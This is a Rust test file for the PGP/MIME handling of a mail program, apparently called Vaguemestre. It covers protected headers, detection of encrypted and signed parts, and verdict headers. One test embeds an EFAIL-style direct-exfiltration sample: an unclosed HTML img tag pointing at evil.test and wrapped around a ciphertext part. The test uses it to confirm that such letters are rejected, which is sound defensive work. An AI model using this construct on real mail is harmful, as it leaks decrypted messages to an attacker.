//! Letters that are sealed, signed, opened and told about, as other programs write them.
use proptest::prelude::*;

use crate::proto::mime::summary;
use crate::proto::pgpmime::*;

const LETTER: &str = "Return-Path: <a@a.test>\r\n\
Received: from here by there;\r\n\tMon, 1 Jan 2026 00:00:00 +0000\r\n\
DKIM-Signature: v=1; b=abc\r\n\
From: Anne <a@a.test>\r\n\
To: Bob <b@b.test>\r\n\
Bcc: secret@b.test\r\n\
Subject: Dossier de\r\n Monsieur X\r\n\
Message-ID: <1@a.test>\r\n\
References: <0@a.test>\r\n\
X-MSS-NIL: LPS 1.0\r\n\
User-Agent: mine\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b\";\r\n\
\r\n\
--b\r\n\r\nBonjour\r\n--b--\r\n";
const PROTECTION: Protection<'_> =
    Protection { subject: Some("[...]"), threads: true, keeps_bcc: false };
const ARMOUR: &str = "-----BEGIN PGP MESSAGE-----\n\nwcDMA+abc\n=abcd\n-----END PGP MESSAGE-----\n";

fn text(octets: &[u8]) -> String {
    String::from_utf8_lossy(octets).into_owned()
}

fn found(letter: &[u8]) -> Option<Found<'_>> {
    find(letter, &summary::summarise(letter).structure)
}

#[test]
fn outside_stays_what_those_need_who_carry_the_letter_and_no_more() {
    let payload = payload(LETTER.as_bytes(), PROTECTION);
    let outer = text(&payload.outer);
    for kept in ["Return-Path", "Received", "From", "To", "Message-ID", "References", "X-MSS-NIL"] {
        assert!(outer.contains(&format!("{kept}: ")), "{kept} in {outer}");
    }
    assert!(outer.contains("Subject: [...]\r\n"), "{outer}");
    for hidden in ["Bcc", "User-Agent", "DKIM", "Monsieur", "Content-Type", "MIME-Version"] {
        assert!(!outer.contains(hidden), "{hidden} in {outer}");
    }
    let inner = text(payload.inner.expose());
    assert!(inner.contains("Subject: Dossier de\r\n Monsieur X\r\n"), "{inner}");
    assert!(inner.contains("HP-Outer: Subject: [...]\r\n"), "{inner}");
    assert!(inner.contains("HP-Outer: From: Anne <a@a.test>\r\n"), "{inner}");
    assert!(inner.contains("\nUser-Agent: mine\r\n"), "{inner}");
    assert!(inner.contains(
        "Content-Type: multipart/mixed; boundary=\"b\";\r\n\thp=\"cipher\"; protected-headers=\"v1\"\r\n\r\n--b"
    ), "{inner}");
    for absent in ["Bcc", "Received", "Return-Path", "DKIM"] {
        assert!(!inner.contains(absent), "{absent} in {inner}");
    }
}

#[test]
fn the_conversation_and_the_subject_stay_outside_or_not_as_it_is_asked() {
    let open = Protection { subject: None, threads: false, keeps_bcc: false };
    let payload = payload(LETTER.as_bytes(), open);
    let outer = text(&payload.outer);
    assert!(outer.contains("Monsieur X"), "{outer}");
    assert!(!outer.contains("References"), "{outer}");
}

#[test]
fn what_an_author_keeps_still_says_under_the_seal_to_whom_it_goes() {
    let kept = payload(LETTER.as_bytes(), Protection { keeps_bcc: true, ..PROTECTION });
    assert!(text(kept.inner.expose()).contains("\nBcc: secret@b.test\r\n"));
    assert!(
        !text(&kept.outer).contains("Bcc") && !text(kept.inner.expose()).contains("HP-Outer: Bcc")
    );
}

#[test]
fn the_word_that_ends_an_exchange_stays_readable() {
    let letter = b"From: a@a.test\r\nSubject: [FIN]\r\n\r\nx\r\n";
    assert!(text(&payload(letter, PROTECTION).outer).contains("Subject: [FIN]\r\n"));
}

#[test]
fn a_sealed_letter_is_read_by_us_and_by_a_second_reader() {
    let outer = b"From: a@a.test\r\nSubject: [...]\r\n";
    let letter = enclose(outer, ARMOUR.as_bytes(), "=_openpgp_1");
    let Some(Found::Encrypted(message)) = found(&letter) else { panic!("{}", text(&letter)) };
    assert_eq!(text(&message).replace("\r\n", "\n").trim(), ARMOUR.trim());
    assert!(!letter.windows(2).any(|two| two[1] == b'\n' && two[0] != b'\r'));
    let second = mail_parser::MessageParser::default().parse(&letter).unwrap();
    assert_eq!(second.parts.len(), 3);
    assert_eq!(second.part(2).unwrap().contents().trim_ascii(), message.trim_ascii());
}

#[test]
fn only_whole_letters_count_as_sealed() {
    let mime = |root: &str, control: &str, message: &str, more: &str| {
        let letter = format!(
            "From: a@a.test\r\nContent-Type: {root}; boundary=b\r\n\r\n--b\r\nContent-Type: \
             {control}\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: {message}\r\n\r\n{ARMOUR}\r\n{more}--b--\r\n"
        );
        found(letter.as_bytes()).is_some()
    };
    let root = "multipart/encrypted; protocol=\"application/pgp-encrypted\"";
    let (control, message) = ("application/pgp-encrypted", "application/octet-stream");
    assert!(mime(root, control, message, ""));
    // A clear part beside the sealed one, in either order: EFAIL's direct exfiltration.
    let clear = "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n";
    assert!(!mime(root, control, message, clear));
    assert!(!mime("multipart/mixed", control, message, ""));
    assert!(!mime("multipart/encrypted; protocol=other", control, message, ""));
    assert!(!mime(root, message, control, ""));
    let nested = format!(
        "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n\
         <img src=\"http://evil.test/\r\n--o\r\nContent-Type: {root}; boundary=b\r\n\r\n--b\r\n\
         Content-Type: {control}\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: {message}\r\n\r\n\
         {ARMOUR}\r\n--b--\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n"
    );
    assert_eq!(found(nested.as_bytes()), None);
}

#[test]
fn an_armoured_text_is_opened_only_when_nothing_stands_around_it() {
    let letter = |body: &str| format!("From: a@a.test\r\n\r\n{}", body.replace('\n', "\r\n"));
    let alone = letter(&format!("\n{ARMOUR}\n"));
    assert!(matches!(found(alone.as_bytes()), Some(Found::Inline(_))));
    for around in [
        format!("See below\n{ARMOUR}"),
        format!("{ARMOUR}Regards\n"),
        format!("{ARMOUR}{ARMOUR}"),
        "-----BEGIN PGP MESSAGE-----\n\nwcDM\n".to_owned(),
    ] {
        assert_eq!(found(letter(&around).as_bytes()), Some(Found::Mixed), "{around}");
    }
    assert_eq!(found(letter("Hello\n").as_bytes()), None);
    let quoted = letter(&format!("> {}", ARMOUR.replace('\n', "\n> ")));
    assert_eq!(found(quoted.as_bytes()), None);
}

#[test]
fn the_octets_that_were_signed_are_found_exactly() {
    let entity = "Content-Type: text/plain\r\n\r\nSigned  \r\n\r\n";
    let letter = format!(
        "Content-Type: multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; \
         boundary=b\r\n\r\nprelude\r\n--b\r\n{entity}\r\n--b\r\nContent-Type: \
         application/pgp-signature\r\n\r\nSIG\r\n--b--\r\n"
    );
    let Some(Found::Signed(signed)) = found(letter.as_bytes()) else { panic!() };
    assert_eq!(text(signed.signed), entity);
    assert_eq!(&*signed.signature, b"SIG");
    assert!(!signed.is_smime);
}

#[test]
fn a_text_signed_in_clear_is_one_only_when_it_is_the_whole_body() {
    let block = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\nx\r\n\
                 -----BEGIN PGP SIGNATURE-----\r\n\r\nwcDM\r\n-----END PGP SIGNATURE-----\r\n";
    let letter = |body: &str| format!("From: a@a.test\r\n\r\n{body}");
    for whole in [block.to_owned(), format!("\r\n{block}\r\n \r\n")] {
        assert!(matches!(found(letter(&whole).as_bytes()), Some(Found::ClearSigned(_))));
    }
    for around in [format!("x\r\n{block}"), format!("{block}x\r\n"), block.replace("END", "AND")] {
        assert_eq!(found(letter(&around).as_bytes()), None, "{around}");
    }
    let both = format!("{block}{ARMOUR}");
    assert_eq!(found(letter(&both).as_bytes()), Some(Found::Mixed));
}

#[test]
fn a_letter_inside_its_smime_signature_says_so() {
    let letter = |kind: &str| {
        format!(
            "From: a@a.test\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\
             Content-Transfer-Encoding: base64\r\n\r\nMAA=\r\n"
        )
    };
    let signed = letter("application/x-pkcs7-mime; smime-type=\"Signed-Data\"; name=smime.p7m");
    let is = Found::SmimeSigned(vec![0x30, 0].into());
    assert_eq!(found(signed.as_bytes()), Some(is));
    for other in ["application/pkcs7-mime", "application/pkcs7-mime; smime-type=enveloped-data"] {
        assert_eq!(found(letter(other).as_bytes()), None);
    }
}

#[test]
fn our_word_is_folded_and_holds_nothing_but_printable_ascii() {
    let word = format!("signature=good; by={}; from=match\r\nX: y\u{e9}", "A".repeat(64));
    let told = with_verdict(b"From: a@a.test\r\n\r\n", 0, &word);
    let expected = format!(
        "X-Vaguemestre-OpenPGP: signature=good;\r\n by={};\r\n from=match??X: y?\r\n\
         From: a@a.test\r\n\r\n",
        "A".repeat(64)
    );
    assert_eq!(text(told.expose()), expected);
}

#[test]
fn words_of_our_name_go_however_they_are_written() {
    let header =
        b"From: a@a.test\r\nx-vaguemestre-OPENPGP : encrypted=yes;\r\n\tsignature=good\r\n\
                   X-Vaguemestre-OpenPGP\t: a\r\nX-Vaguemestre-OpenPGP-Not: b\r\nSubject: s\r\n";
    let kept = without_verdicts(header).unwrap();
    assert_eq!(text(&kept), "From: a@a.test\r\nX-Vaguemestre-OpenPGP-Not: b\r\nSubject: s\r\n");
    assert_eq!(without_verdicts(b"From: a@a.test\r\n\r\n"), None);
}

#[test]
fn an_opened_entity_takes_the_place_of_the_whole_body() {
    let outer = b"Return-Path: <a@a.test>\r\nFrom: a@a.test\r\nSubject: [...]\r\n";
    let sealed = enclose(outer, ARMOUR.as_bytes(), "=_1");
    let clear = b"X-Vaguemestre-OpenPGP: signature=good\nFrom: other@a.test\nSubject: Real\n\
                  Content-Type: text/html;\n charset=utf-8; hp=\"cipher\"\n\n<p>\xC3\xA9</p>\n";
    let whole = text(in_place(&sealed, clear, false).unwrap().expose());
    assert_eq!(
        whole,
        "Return-Path: <a@a.test>\r\nFrom: a@a.test\r\nSubject: Real\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html;\r\n charset=utf-8; hp=\"cipher\"\r\n\r\n<p>é</p>\r\n"
    );
    // Without protection of header fields the outer subject stays.
    let plain = b"Subject: Real\r\nContent-Type: text/plain\r\n\r\nx";
    let whole = text(in_place(&sealed, plain, false).unwrap().expose());
    assert!(whole.contains("Subject: [...]\r\n") && whole.ends_with("\r\n\r\nx"), "{whole}");
    assert!(in_place(&sealed, b"a\0b", false).is_none());
}

#[test]
fn an_opened_text_becomes_a_plain_body() {
    let letter = format!("From: a@a.test\r\nContent-Type: text/plain\r\n\r\n{ARMOUR}");
    let whole = text(in_place(letter.as_bytes(), "To: é\n".as_bytes(), true).unwrap().expose());
    assert_eq!(
        whole,
        "From: a@a.test\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\
         Content-Transfer-Encoding: 8bit\r\n\r\nTo: é\r\n"
    );
}

proptest! {
    #[test]
    fn whatever_is_sealed_comes_back_and_nothing_panics(
        subject in "[ -~]{0,60}",
        body in proptest::collection::vec(any::<u8>(), 0..400),
        junk in proptest::collection::vec(any::<u8>(), 0..400),
    ) {
        let mut letter = format!("From: a@a.test\r\nSubject: {subject}\r\n\r\n").into_bytes();
        letter.extend_from_slice(&body);
        let taken = payload(&letter, PROTECTION);
        let sealed = enclose(&taken.outer, ARMOUR.as_bytes(), "=_1");
        prop_assert!(matches!(found(&sealed), Some(Found::Encrypted(_))));
        if let Some(whole) = in_place(&sealed, taken.inner.expose(), false) {
            let (before, after) = (summary::summarise(&letter), summary::summarise(whole.expose()));
            prop_assert_eq!(before.subject.trim(), after.subject.trim());
        }
        let _ = found(&junk);
        let _ = without_verdicts(&junk);
        let _ = in_place(&junk, &junk, true);
        let _ = payload(&junk, PROTECTION);
    }
}
